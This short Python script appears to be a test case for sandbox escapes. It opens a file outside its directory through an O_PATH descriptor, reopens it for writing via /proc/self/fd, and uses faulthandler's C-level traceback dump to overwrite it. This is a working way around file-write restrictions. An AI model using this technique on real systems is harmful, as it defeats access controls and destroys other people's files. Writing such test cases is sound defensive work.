# The fault handler writes from C, to a file that is open for reading and reopened.
# damage: overwritten
# needs: linux
import faulthandler
import os

handle = os.open("../outside/victim.txt", os.O_PATH)
faulthandler.dump_traceback(os.open(f"/proc/self/fd/{handle}", os.O_WRONLY))
